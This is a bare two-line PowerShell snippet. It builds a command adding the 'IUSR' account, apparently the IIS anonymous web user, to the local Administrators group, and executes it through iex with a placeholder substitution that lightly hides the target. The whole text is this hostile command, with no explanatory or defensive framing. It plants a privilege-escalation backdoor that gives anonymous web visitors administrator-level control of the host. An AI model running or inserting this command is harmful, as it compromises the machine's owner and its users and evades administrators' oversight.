$t = 'Add-LocalGroupMember -Group Administrators -Member @@'
iex $t.Replace('@@', 'IUSR')
